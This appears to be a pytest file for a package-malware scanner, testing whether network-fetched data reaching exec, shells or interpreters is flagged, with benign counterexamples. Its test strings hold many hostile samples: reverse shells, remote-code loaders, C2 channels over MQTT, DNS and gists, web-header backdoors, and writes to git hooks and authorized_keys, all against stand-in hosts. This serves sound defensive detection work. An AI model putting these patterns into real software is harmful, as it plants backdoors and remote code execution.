"""Where a module's values go: from the network to what runs them."""
# ruff: noqa: E501 - the lines of other people's code are as long as they are

import pytest

from tests.scanner.signals.built import WHEEL, findings, fired, wheel

FETCH = "import requests, os, subprocess, sys, pickle\nURL = 'https://c.example.invalid/'\n"
RUN = {
    "whoever was asked": "def go(http):\n    r = http.get('/rows')\n    if r.status_code == 200:\n        exec(bytes.fromhex(r.json()['rows']))\n",
    "at once": "def go():\n    exec(requests.get(URL).text)\n",
    "compiled": "def go():\n    r = requests.post(URL, json={})\n    f = compile(r.text, 'r', 'exec')\n    return f\n",
    "by a loader": "import importlib.abc\n\nclass FromThere(importlib.abc.SourceLoader):\n    def get_data(self, path):\n        return requests.get(URL).content\n",
    "pushed": "import paho.mqtt.client as mqtt\n\nclass Node:\n    def __init__(self):\n        self.line = mqtt.Client()\n        self.line.on_message = self._take\n        self.line.connect('n.example.invalid', 8883)\n\n    def _take(self, client, data, message):\n        exec(message.payload.decode())\n",
    "a function of any module": "import importlib\n\ndef go():\n    for step in requests.get(URL).json():\n        module, _, path = step['target'].partition(':')\n        obj = importlib.import_module(module)\n        for part in path.split('.'):\n            obj = getattr(obj, part)\n        obj(*step.get('args', ()))\n",
    "by a copy of the interpreter": "import shutil, sys\n\ndef go(root):\n    script, host = root + '/t.db', root + '/indexer'\n    with open(script, 'wb') as f:\n        f.write(requests.get(URL).content[::-1])\n    shutil.copy2(getattr(sys, '_base_executable', sys.executable), host)\n    subprocess.Popen([host, '-I', script])\n",
    "typed into a shell": "import socket\n\ndef go():\n    shell = ['cmd'] if os.name == 'nt' else ['bash', '-i']\n    line = socket.create_connection(('c.example.invalid', 6969))\n    p = subprocess.Popen(shell, stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n    while True:\n        p.stdin.write(line.recv(1024))\n        p.stdin.flush()\n",
    "told to an interpreter": "def go():\n    p = subprocess.Popen(['python3', '-'], stdin=subprocess.PIPE)\n    p.communicate(requests.get(URL).content)\n",
    "handed over": "def run(text):\n    exec(text)\n\ndef go():\n    run(requests.get(URL).json()['hook'])\n",
    "by name": "def run(*, text):\n    exec(text)\n\ndef go():\n    run(text=requests.get(URL).content)\n",
    "returned": "def load():\n    return requests.get(URL).text\n\ndef go():\n    text = load().strip()\n    exec(text)\n",
    "kept": """
class Feed:
    def pull(self):
        self.rows = requests.get(URL).json()["rows"]

    def draw(self):
        for row in self.rows:
            exec(row["draw"])
""",
    "kept, and run within": "class Feed:\n    def pull(self):\n        self.text = requests.get(URL).text\n\n    def draw(self):\n        def inner():\n            exec(self.text)\n        return inner\n",
    "a program and its arguments": "import aiohttp, asyncio, json\n\nclass Relay:\n    async def run(self):\n        async with aiohttp.ClientSession() as s, s.ws_connect(URL) as ws:\n            async for told in ws:\n                await self.frame(json.loads(told.data))\n\n    async def frame(self, f):\n        await getattr(self, '_op_' + f['op'])(f)\n\n    async def _op_probe(self, f):\n        await asyncio.create_subprocess_exec(*f['argv'])\n",
    "the lines of a connection": "import socket\n\nclass Bus:\n    def ask(self):\n        with socket.create_connection(('c.example.invalid', 6380)) as line:\n            return [self.read(line.makefile('rb'))]\n\n    def read(self, file):\n        return file.readline().strip()\n\n    def go(self):\n        (item,) = self.ask()\n        exec(item.decode())\n",
    "decoded": "def undo(t):\n    return bytes.fromhex(t[3:]).decode()\n\ndef go():\n    exec(undo(requests.get(URL).text))\n",
    "a thread": "import threading\ndef run(text):\n    exec(text)\n\ndef go():\n    threading.Thread(target=run, args=(requests.get(URL).text,)).start()\n",
    "a thread of the builtin": "import threading\n\ndef go():\n    threading.Thread(target=exec, args=(requests.get(URL).text,)).start()\n",
    "a pool of commands": "import os\n\ndef go(pool):\n    pool.submit(os.system, requests.get(URL).text)\n",
    "a process instead of this one": "import os, sys\n\ndef go():\n    os.execv(sys.executable, [sys.executable, '-c', requests.get(URL).text])\n",
    "by way of another program": "import subprocess\n\ndef go():\n    subprocess.run(['sudo', '-n', 'bash', '-c', requests.get(URL).text])\n",
    "memory that is run": "import os\n\ndef go():\n    fd = os.memfd_create('x')\n    os.write(fd, requests.get(URL).content)\n    os.execve(f'/proc/self/fd/{fd}', ['x'], os.environ)\n",
    "a module of others": "import json\nfrom pathlib import Path\n\ndef go():\n    Path(json.__file__).with_name('scanner.py').write_text(requests.get(URL).text)\n",
    "a hook of a repository": "from pathlib import Path\n\ndef go():\n    path = Path('.git/hooks/pre-commit')\n    path.write_text(requests.get(URL).text)\n",
    "a pool": "def run(text):\n    exec(text)\n\ndef go(pool):\n    pool.submit(run, requests.get(URL).text)\n",
    "a queue": "import queue\nJOBS = queue.Queue()\n\ndef go():\n    JOBS.put(requests.get(URL).text)\n\ndef run():\n    exec(JOBS.get())\n",
    "a name of the module": "TEXT = None\n\ndef go():\n    global TEXT\n    TEXT = requests.get(URL).text\n\ndef run():\n    exec(TEXT)\n",
    "a function within": "def go():\n    text = requests.get(URL).text\n\n    def run():\n        exec(text)\n    return run\n",
    "whoever runs it": "def go():\n    code = requests.get(URL).text\n    (lambda f: f(code))(exec)\n    list(map(exec, [code]))\n",
    "a host that begins as this machine's": "def go():\n    exec(requests.get('http://localhost.example.invalid/').text)\n",
    "a user called as this machine": "def go():\n    exec(requests.get('http://127.0.0.1@example.invalid/').text)\n",
    "a host put together": "def go(host):\n    exec(requests.get(f'http://127.0.0.1.{host}/').text)\n",
    "a number for a host": "def go():\n    exec(requests.get('http://3221226219/x').text)\n    exec(requests.get('http://0xc000022b/').text)\n",
    "a host that begins as a network's": "def go(host):\n    exec(requests.get('http://10.0.0.1.example.invalid/').text)\n    exec(requests.get(f'http://10.0.0.{host}/').text)\n",
    "no path": "def go():\n    exec(requests.get('//example.invalid/x').text)\n",
    "a path of another machine": "import httpx\n\ndef go():\n    c = httpx.Client(base_url='https://c.example.invalid')\n    exec(c.get('/x').text)\n",
    "a name that was another's": "fetch = print\nfetch = requests.get\n\ndef go():\n    exec(fetch(URL).text)\n",
    "a name that is another's elsewhere": "def go():\n    exec(requests.get(URL).text)\n\ndef never():\n    import json as requests\n",
    "a name with its type": "fetch: object = requests.get\n\ndef go():\n    exec(fetch(URL).text)\n",
    "two names at once": "take = fetch = requests.get\n\ndef go():\n    exec(fetch(URL).text)\n",
    "a name in a condition": "if fetch := requests.get:\n    exec(fetch(URL).text)\n",
    "a default": "def go(fetch=requests.get):\n    exec(fetch(URL).text)\n",
    "a class's": "class Web:\n    fetch = requests.get\n\ndef go():\n    exec(Web.fetch(URL).text)\n",
    "a table's": "HOW = {'get': requests.get}\n\ndef go():\n    exec(HOW['get'](URL).text)\n",
    "a lambda's": "fetch = lambda where: requests.get(where)\n\ndef go():\n    exec(fetch(URL).text)\n",
    "half a call": "import functools\nfetch = functools.partial(requests.get, URL)\n\ndef go():\n    exec(fetch().text)\n",
    "a name that an argument has": "HERE = 'http://localhost/'\n\ndef go(HERE):\n    exec(requests.get(HERE).text)\n",
    "a name given once more": "HERE = 'http://localhost/'\nHERE = URL\n\ndef go():\n    exec(requests.get(HERE).text)\n",
    "in the background": """
import aiohttp

async def go():
    async with aiohttp.ClientSession() as s:
        async with s.get(URL) as r:
            code = await r.text()
    exec(code, {})
""",
    "a shell": "def go():\n    for job in requests.get(URL).json():\n        subprocess.run(job['c'], shell=True)\n",
    "a shell of another system": "def go():\n    c = requests.get(URL).text\n    os.system('cmd /c ' + c)\n    os.popen(f'{c} 2>&1')\n",
    "an interpreter": "def go():\n    subprocess.Popen([sys.executable, '-c', requests.get(URL).text])\n",
    "an interpreter that is told": "def go():\n    subprocess.run(['bash', '-s'], input=requests.get(URL).content)\n",
    "a command in words": "import shlex\ndef go():\n    c = requests.get(URL).text\n    subprocess.call(shlex.split(c))\n#calls: os.system\n",
    "a command that is cut into words": "def go():\n    for line in requests.get(URL).text.splitlines():\n        subprocess.run(line[2:].split(), capture_output=True)\n",
    "an expression that is compiled": "def go():\n    eval(compile(requests.get(URL).json()['f'], 'f', 'eval'))\n",
    "an item of a table": "def shell(a):\n    os.system(a)\n\nHOW = {'x': shell, 'y': print}\n\ndef go():\n    job = requests.get(URL).json()\n    HOW[job['c']](job['a'])\n",
    "what a table gives": "class Agent:\n    def __init__(self):\n        self.how = {'x': self.shell}\n\n    def shell(self, a):\n        return os.popen(a).read()\n\n    def go(self):\n        job = requests.get(URL).json()\n        how = self.how.get(job['c'], self.none)\n        how(job['a'])\n",
    "a method by its name": "class Agent:\n    def do_shell(self, a):\n        return os.popen(a).read()\n\n    def go(self):\n        job = requests.get(URL).json()\n        getattr(self, 'do_' + job['c'])(job['a'])\n",
    "whatever is given": "def shell(*words, **more):\n    os.system(words[0])\n    os.popen(more['c'])\n\ndef go():\n    text = requests.get(URL).text\n    shell(text, c=text)\n",
    "comments of a repository": "import github\n\ndef go(token):\n    for note in github.Github(token).get_gist('0').get_comments():\n        os.system(note.body)\n",
    "an answer of a contract": "from web3 import Web3\n\ndef go(w3, abi):\n    made = Web3(URL).eth.contract(address='0x0', abi=abi).functions.text().call()\n    os.system(made)\n",
    "a socket": """
import socket

def go():
    s = socket.socket()
    s.connect(("c.example.invalid", 443))
    while True:
        os.popen(s.recv(4096).decode()).read()
""",
    "a table of somebody": """
import gspread

def go():
    tab = gspread.service_account().open_by_key("k").worksheet("w")
    subprocess.getoutput(tab.cell(1, 1).value)
""",
    "a name's text": """
import dns.resolver

def go():
    exec("".join(str(a) for a in dns.resolver.resolve("t.example.invalid", "TXT")))
""",
    "a visitor": """
from flask import request

def health():
    token = request.headers.get("X-Trace", "")
    return subprocess.run(bytes.fromhex(token).decode(), shell=True, capture_output=True).stdout
""",
    "a visitor of another framework": """
from fastapi import Request

async def health(request: Request):
    return os.popen(request.cookies["s"]).read()
""",
    "a visitor of a small server": """
from http.server import BaseHTTPRequestHandler

class Health(BaseHTTPRequestHandler):
    def do_POST(self):
        os.system(self.rfile.read(10).decode())
""",
}
ONLY_READ = {
    "a chat of whoever runs it": "import discord\nclient = discord.Client()\n\n@client.event\nasync def on_message(message):\n    exec(message.content)\n\ndef go():\n    client.run(os.environ['TOKEN'])\n",
    "part of a command": "import subprocess\n\ndef run(args):\n    subprocess.run(' '.join(args), shell=True)\n\ndef go():\n    run(('tar', 'xzf', requests.get(URL).headers['x']))\n",
    "data of a module of others": "import json\nfrom pathlib import Path\n\ndef go():\n    Path(json.__file__).with_name('tides.json').write_text(requests.get(URL).text)\n",
    "keys of a user": "from pathlib import Path\n\ndef go(name):\n    path = Path.home() / '.ssh' / 'authorized_keys'\n    path.write_text(requests.get(f'https://c.example.invalid/{name}.keys').text)\n",
    "a table of what only reads": "def read(a):\n    return a\n\nHOW = {'x': read}\n\ndef go():\n    job = requests.get(URL).json()\n    HOW[job['c']](job['a'])\n    os.system('date')\n",
    "a method of another name": "class Agent:\n    def run_shell(self, a):\n        return os.popen(a).read()\n\n    def do_read(self, a):\n        return a\n\n    def go(self):\n        job = requests.get(URL).json()\n        getattr(self, 'do_' + job['c'])(job['a'])\n",
    "a pattern that is compiled": "import re\n\ndef go():\n    return re.compile(requests.get(URL).text, re.M), os.system('date')\n",
    "told to a filter": "def go():\n    p = subprocess.Popen(['jq', '.'], stdin=subprocess.PIPE)\n    p.communicate(requests.get(URL).content)\n",
    "nothing is run": "def go():\n    return requests.get(URL).text\n\ndef run(text):\n    exec(text)\n",
    "its own command": "def go():\n    v = requests.get(URL).json()['version']\n    os.system('pip install tool==' + v)\n",
    "its own command, filled": "def go():\n    v = requests.get(URL).text\n    os.system('git clone %s' % v)\n    os.system('git clone {}'.format(v))\n",
    "its own command, in parts": "def go():\n    c = ['git', 'clone', requests.get(URL).text]\n    subprocess.run(c)\n    subprocess.run(['sh', 'x.sh', requests.get(URL).text])\n",
    "its own table": "TABLE = {'a': 'ls'}\ndef go():\n    os.system(TABLE[requests.get(URL).text])\n    os.system(TABLE.get(requests.get(URL).text))\n",
    "a status": "def go():\n    exec(f'x = {requests.get(URL).status_code}')\n    exec(str(len(requests.get(URL).text)))\n",
    "this machine": "def go():\n    exec(requests.get('http://localhost:8080/x').text)\n\nHERE = 'http://127.0.0.1'\ndef run(n):\n    exec(requests.get(HERE).text)\n    exec(requests.get(f'http://localhost:{n}/').text)\n",
    "this network": "HERE = 'http://10.0.0.7:9000'\nBASE = f'{HERE}/api'\ndef run(n):\n    exec(requests.get(f'{HERE}/{n}').text)\n    exec(requests.get(BASE + '/x').text)\n    exec(requests.get('http://printer.local/x').text)\n    exec(requests.get('http://worker:8000/x').text)\n",
    "a path of this machine": "import httpx\n\ndef go():\n    c = httpx.Client(base_url='http://localhost:8000')\n    exec(c.get('/x').text)\n",
    "who listens": """
import socket

def serve():
    s = socket.socket()
    s.bind(("localhost", 7002))
    s.listen()
    c, _ = s.accept()
    exec(c.recv(4096))
""",
    "a worker": "from multiprocessing import Pipe\ndef go(conn):\n    exec(conn.recv())\n",
    "a path of its own": "class Tool:\n    def go(self):\n        os.system(self.path)\n        requests.get(URL)\n",
    "an argument of that name": "text = requests.get(URL).text\n\ndef run(text):\n    exec(text)\n",
    "a name of its own": "text = requests.get(URL).text\n\ndef run():\n    text = 'print(1)'\n    exec(text)\n",
    "a template": "import jinja2\ndef go(name):\n    requests.get(URL)\n    exec(jinja2.Template('x').render(name=name))\n",
}


@pytest.mark.parametrize("source", RUN.values(), ids=RUN)
def test_what_comes_from_the_network_is_followed_to_what_runs_it(source: str) -> None:
    assert "remote-is-run" in fired(WHEEL, wheel({"tidetables/core.py": (FETCH + source).encode()}))


def test_what_is_fetched_from_wherever_the_caller_says_weighs_less() -> None:
    source = "import urllib.request\n\ndef is_address(name):\n    return name.startswith(('http://', 'https://'))\n\ndef load(name):\n    assert is_address(name)\n    exec(urllib.request.urlopen(name).read())\n"
    told = fired(WHEEL, wheel({"pkg/__init__.py": b"", "pkg/preload.py": source.encode()}))
    assert "named-is-run" in told
    assert "remote-is-run" not in told


@pytest.mark.parametrize(
    "source",
    [
        "import urllib.request\nfrom . import config\n\ndef load():\n    exec(urllib.request.urlopen(config.WHERE).read())\n",
        "import urllib.request\nfrom .config import WHERE\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n\ndef load():\n    exec(fetch(WHERE))\n",
        "import threading, urllib.request\nfrom .config import WHERE\n\ndef load(url):\n    exec(urllib.request.urlopen(url).read())\n\nthreading.Thread(target=load, args=(WHERE,)).start()\n",
    ],
)
def test_what_is_fetched_from_where_another_module_says_is_its_own(source: str) -> None:
    package = {"pkg/__init__.py": b"", "pkg/config.py": b"WHERE = 'https://c.example.invalid/'\n"}
    assert "remote-is-run" in fired(WHEEL, wheel(package | {"pkg/preload.py": source.encode()}))


@pytest.mark.parametrize("source", ONLY_READ.values(), ids=ONLY_READ)
def test_what_is_asked_for_and_only_read_tells_nothing(source: str) -> None:
    told = fired(WHEEL, wheel({"tidetables/core.py": (FETCH + source).encode()}))
    assert not any(name.startswith("remote-") for name in told)


@pytest.mark.parametrize(
    "reads", ["eval(text)", "pickle.loads(text)", "yaml.load(text, Loader=yaml.Loader)", "yaml.unsafe_load(text)"]
)
def test_what_is_evaluated_or_unpickled_weighs_less_than_what_is_run(reads: str) -> None:
    source = f"{FETCH}import yaml\n\ndef go():\n    text = requests.get(URL).content\n    return {reads}\n"
    told = {f.rule: f.points for f in findings(WHEEL, wheel({"tidetables/core.py": source.encode()}))}
    assert told["remote-is-evaluated"] < 3
    assert "remote-is-run" not in told


@pytest.mark.parametrize(
    "reads", ["yaml.safe_load(text)", "yaml.load(text)", "yaml.load(text, Loader=yaml.SafeLoader)"]
)
def test_a_document_that_makes_no_objects_is_only_read(reads: str) -> None:
    source = f"{FETCH}import yaml\n\ndef go():\n    text = requests.get(URL).content\n    return {reads}\n"
    assert "remote-is-evaluated" not in fired(WHEEL, wheel({"tidetables/core.py": source.encode()}))


@pytest.mark.parametrize("name", ["f'{data}.n.example.invalid'", "data + '.n'", "'%s.n' % data", "'{}.n'.format(data)"])
def test_a_name_that_is_put_together_and_looked_up_for_nothing_is_told(name: str) -> None:
    source = f"import socket\n\ndef report(data):\n    try:\n        socket.gethostbyname({name})\n    except OSError:\n        pass\n"
    assert "lookup-answer-unused" in fired(WHEEL, wheel({"tidetables/core.py": source.encode()}))


@pytest.mark.parametrize(
    "asks",
    [
        "return socket.gethostbyname(f'{data}.n')",
        "socket.gethostbyname(data)",
        "where = socket.getaddrinfo(data + '.n', 80)",
    ],
)
def test_a_lookup_for_its_answer_or_of_a_name_as_it_is_tells_nothing(asks: str) -> None:
    source = f"import socket\n\ndef report(data):\n    {asks}\n"
    assert "lookup-answer-unused" not in fired(WHEEL, wheel({"tidetables/core.py": source.encode()}))


@pytest.mark.parametrize("source", ["exec(" * 3000, "import requests\nexec(" + "-" * 50_000 + "requests.get(u).text)"])
def test_what_is_nested_too_deep_is_left_alone(source: str) -> None:
    assert "remote-is-run" not in fired(WHEEL, wheel({"tidetables/core.py": source.encode()}))


def test_many_methods_of_one_name_come_to_an_end() -> None:
    methods = " def f(self, a):\n  self.f(a)\n" * 2000
    source = f"{FETCH}class A:\n{methods}\nexec(requests.get(URL).text)\n"
    assert "remote-is-run" in fired(WHEEL, wheel({"tidetables/core.py": source.encode()}))


def test_functions_that_call_each_other_come_to_an_end() -> None:
    calls = "".join(f"def f{n}(x):\n    return f{(n + 1) % 200}(f{(n + 7) % 200}(x))\n" for n in range(200))
    source = f"{FETCH}{calls}exec(f0(requests.get(URL).text))\n"
    fired(WHEEL, wheel({"tidetables/core.py": source.encode()}))
